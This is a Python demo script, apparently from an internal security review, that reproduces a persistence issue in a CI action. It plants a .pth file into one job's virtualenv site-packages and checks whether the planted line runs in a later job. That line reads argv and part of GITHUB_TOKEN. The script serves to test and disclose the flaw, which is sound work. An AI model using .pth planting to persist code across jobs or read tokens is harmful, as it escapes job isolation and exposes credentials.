"""demo_runner_venv_persistence.py adapted to main (not one of the review's demos; written for
docs/review-r3-demos.md). On main the demo stops with IndexError: it looks for the action's
virtual environment under $RUNNER_TOOL_CACHE/orion-action/venv-*, and since ADR 0032 the setup
step makes a new one for every use under $RUNNER_TEMP/orion-action/venv-XXXXXX (mktemp).

This script is the demo with the planting adapted to that place: job 1's setup prints
"Created <venv>", and the agent's .pth goes into that venv's site-packages (job 1's own
environment, which is what a job's command could reach). Job 2 (a later reconcile pass) then
runs action.yml's real setup and orion steps as the demo does, with the same RUNNER_TEMP and
tool cache (kept, although a runner empties RUNNER_TEMP at every job start). The `job` function
is the demo's, unchanged. Exit 0 (REPRODUCED) when the planted line runs in job 2.

Run: PROJECT_CLONE=<repo> PYTHONPATH=scripts/r3-demos/compat <repo>/.venv/bin/python THIS
"""

import glob
import os
import subprocess
import sys
from pathlib import Path

sys.path.insert(0, os.path.join(os.environ.get("R3_DEMOS", "/work/shared/reviews/r3"), "demos-security"))

import yaml  # noqa: E402
from _rig import CLONE, World  # noqa: E402


def step(name: str) -> str:
    action = yaml.safe_load(Path(CLONE, "action.yml").read_text())
    return next(s for s in action["runs"]["steps"] if s.get("id") == name)["run"]


def job(w: World, n: int, cache: Path, command: str) -> tuple[str, str]:
    out = w.tmp / f"job{n}-setup-output"
    out.write_text("")
    base = {**w.env, "RUNNER_OS": "Linux", "GITHUB_ACTION_PATH": CLONE, "RUNNER_TOOL_CACHE": str(cache),
            "RUNNER_TEMP": str(w.tmp), "GITHUB_OUTPUT": str(out)}
    setup = subprocess.run(["bash", "-c", step("setup")], env=base, capture_output=True, text=True,
                           timeout=600)
    if setup.returncode != 0:
        sys.exit(f"setup failed (needs pip's package index): {setup.stdout[-500:]} {setup.stderr[-500:]}")
    python = out.read_text().split("python=", 1)[1].strip()
    env = {**base, "ORION_PYTHON": python, "ORION_EVENT_NAME": "schedule", "ORION_SENDER": "",
           "GITHUB_OUTPUT": str(w.tmp / f"job{n}-orion-output"), "INPUT_COMMAND": command}
    for key in ("CONFIG", "REPOS", "ISSUE", "NEXT", "DRAIN", "MAX_RUNS", "STAGE", "RUN", "DRY_RUN", "FORCE",
                "APP_ID", "APP_PRIVATE_KEY", "APP_INSTALLATION_ID"):
        env.setdefault("INPUT_" + key, "")
    env.update(ORION_APP_ID="", ORION_APP_PRIVATE_KEY="", ORION_APP_INSTALLATION_ID="")
    orion = subprocess.run(["bash", "-c", step("orion")], env=env, capture_output=True, text=True,
                           timeout=120)
    return setup.stdout.strip().splitlines()[-1], orion.stdout + orion.stderr


with World(name="venv-persist") as w:
    cache = w.tmp / "tool-cache"
    first, _ = job(w, 1, cache, "status")
    print(f"job 1 (agent job) setup: {first}")
    venv = first.split("Created ", 1)[1].strip()
    site = glob.glob(os.path.join(venv, "lib", "python3*", "site-packages"))[0]
    Path(site, "zz_agent.pth").write_text(
        "import os, sys; sys.stderr.write('PLANTED CODE RAN in a later job: argv0=%s GITHUB_TOKEN=%s...\\n'"
        " % (sys.argv[0], os.environ.get('GITHUB_TOKEN', '')[:6]))\n")
    print(f"job 1: the agent wrote zz_agent.pth into its venv's site-packages ({site})")
    second, output = job(w, 2, cache, "reconcile")
    print(f"job 2 (a later reconcile pass) setup: {second}")
    print(f"job 1's venv still there: {os.path.isdir(venv)}")
    planted = [line for line in output.splitlines() if "PLANTED" in line]
    print("job 2 output:", planted[0] if planted else "(nothing planted ran)")
    ok = bool(planted)
    print("RESULT:", "REPRODUCED: job 1's code ran in job 2" if ok else "NOT REPRODUCED")
    sys.exit(0 if ok else 1)
